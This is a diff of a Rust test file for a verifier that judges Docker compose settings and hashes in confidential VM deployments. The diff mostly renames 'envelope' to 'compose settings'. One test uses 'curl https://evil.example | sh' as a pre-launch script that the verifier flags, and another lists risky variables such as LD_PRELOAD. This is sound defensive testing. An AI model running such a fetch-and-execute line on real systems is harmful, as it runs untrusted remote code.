@@ -36,9 +36,9 @@ fn releasing(document: String, docker_compose: &str) -> Trial {
     })
 }
 
-/// The same with the envelope of another document locked.
-fn locked_to(trial: Trial, envelope: &str) -> Trial {
-    let locked: Value = serde_json::from_str(envelope).unwrap();
+/// The same with the compose settings of another document locked.
+fn locked_to(trial: Trial, compose_settings: &str) -> Trial {
+    let locked: Value = serde_json::from_str(compose_settings).unwrap();
     let mut fields = locked.as_object().unwrap().clone();
     fields.remove("docker_compose_file");
     if let Some(Value::String(script)) = fields.get("pre_launch_script") {
@@ -47,7 +47,7 @@ fn locked_to(trial: Trial, envelope: &str) -> Trial {
     }
     trial.with(|trial| {
         trial.policy.locked_compose = Some(LockedCompose {
-            envelope: fields.into_iter().collect(),
+            compose_settings: fields.into_iter().collect(),
             images: Default::default(),
             places: Vec::new(),
             lock: "cvm.lock".into(),
@@ -71,7 +71,7 @@ fn is_mismatch(judged: &Judged, says: &str) {
 }
 
 #[test]
-fn a_release_in_the_clean_envelope_passes_without_a_lock() {
+fn a_release_in_the_clean_settings_passes_without_a_lock() {
     let judged = releasing(clean(DOCKER_COMPOSE), DOCKER_COMPOSE).judge();
     judged.passes().proves(CheckId::ComposeHash);
     assert!(judged.0.compose_diff.is_empty());
@@ -83,7 +83,7 @@ fn a_release_in_the_clean_envelope_passes_without_a_lock() {
 }
 
 #[test]
-fn a_release_in_the_locked_envelope_passes_whatever_it_is() {
+fn a_release_in_the_locked_settings_passes_whatever_it_is() {
     let open = |docker: &str| {
         let mut document: Value = serde_json::from_str(&app_compose(docker)).unwrap();
         document["public_logs"] = json!(true);
@@ -187,7 +187,7 @@ fn t14_a_docker_compose_file_that_is_there_and_not_started_fails() {
 }
 
 #[test]
-fn an_envelope_that_nothing_pins_is_open() {
+fn an_settings_that_nothing_pins_is_open() {
     let judged = releasing(app_compose(DOCKER_COMPOSE), DOCKER_COMPOSE).judge();
     judged.leaves_open(CheckId::ComposeHash, "compose-settings-unpinned");
     assert!(
@@ -209,7 +209,7 @@ fn is_unpinned(field: &str, value: Value) {
 }
 
 #[test]
-fn t39_a_risky_variable_is_never_part_of_the_clean_envelope() {
+fn t39_a_risky_variable_is_never_part_of_the_clean_settings() {
     for name in [
         "LD_PRELOAD",
         "https_proxy",
@@ -226,7 +226,7 @@ fn t39_a_risky_variable_is_never_part_of_the_clean_envelope() {
 }
 
 #[test]
-fn t78_a_name_that_the_docker_compose_file_does_not_refer_to_is_never_part_of_the_clean_envelope() {
+fn t78_a_name_that_the_docker_compose_file_does_not_refer_to_is_never_part_of_the_clean_settings() {
     for name in [
         "APP_COMPOSE_FILE",
         "NERDCTL_NAMESPACE",
@@ -254,7 +254,7 @@ fn t78_a_name_that_the_docker_compose_file_does_not_refer_to_is_never_part_of_th
 }
 
 #[test]
-fn t40_a_script_is_never_part_of_the_clean_envelope_unless_it_is_phalas() {
+fn t40_a_script_is_never_part_of_the_clean_settings_unless_it_is_phalas() {
     is_unpinned("pre_launch_script", json!("curl https://evil.example | sh\n"));
     // What the lock shows instead of a text is no script.
     let hash = "sha256:bf12939bc82c9bdd103b6b1226913e6da58ed7cfcfc7c7ae808ac0813715b9a8";
@@ -265,7 +265,7 @@ fn t40_a_script_is_never_part_of_the_clean_envelope_unless_it_is_phalas() {
 }
 
 #[test]
-fn t41_an_exposure_is_never_part_of_the_clean_envelope() {
+fn t41_an_exposure_is_never_part_of_the_clean_settings() {
     is_unpinned("public_logs", json!(true));
     is_unpinned("public_sysinfo", json!(true));
     is_unpinned("no_instance_id", json!(true));
@@ -273,7 +273,7 @@ fn t41_an_exposure_is_never_part_of_the_clean_envelope() {
 }
 
 #[test]
-fn nothing_else_is_part_of_the_clean_envelope() {
+fn nothing_else_is_part_of_the_clean_settings() {
     is_unpinned("kms_enabled", json!(false));
     is_unpinned("local_key_provider_enabled", json!(true));
     is_unpinned("key_provider", json!("none"));
@@ -284,7 +284,7 @@ fn nothing_else_is_part_of_the_clean_envelope() {
 }
 
 #[test]
-fn t40_a_changed_envelope_fails_although_the_docker_compose_file_is_right() {
+fn t40_a_changed_settings_fails_although_the_docker_compose_file_is_right() {
     let trial = releasing(app_compose(DOCKER_COMPOSE), DOCKER_COMPOSE);
     let judged = locked_to(trial, &clean("services: {}")).judge();
     judged.fails(CheckId::ComposeHash, "compose-settings-mismatch");
@@ -319,7 +319,7 @@ fn a_hash_and_a_file_must_both_be_right() {
             })
             .judge()
     };
-    // The hash binds the envelope: no lock is needed.
+    // The hash binds the compose settings: no lock is needed.
     with_hash(DOCKER_COMPOSE, None).passes();
     is_mismatch(&with_hash(SWAPPED_DOCKER_COMPOSE, None), "lines differ");
     let other = with_hash(SWAPPED_DOCKER_COMPOSE, Some([7; 32]));
@@ -453,13 +453,13 @@ fn during_a_roll_out_the_first_hash_passes_and_the_second_is_told() {
 }
 
 #[test]
-fn t40_the_second_hash_keeps_the_locked_envelope() {
+fn t40_the_second_hash_keeps_the_locked_settings() {
     let trial = || rolling_out(|trial| second(trial.cvm.compose_hash(), "2026-06-10", trial.at + 1));
     locked_to(trial(), &app_compose("services: {}")).judge().passes();
     locked_to(trial(), &clean("services: {}"))
         .judge()
         .fails(CheckId::ComposeHash, "compose-settings-mismatch");
-    // The lock's own hash would bind its envelope; the second does not.
+    // The lock's own hash would bind its compose settings; the second does not.
     let unseen = locked_to(trial(), &app_compose("services: {}")).with(|trial| {
         trial.info = false;
         let lock = LockOrigin::from("cvm.lock").key(&["compose_hash"]);
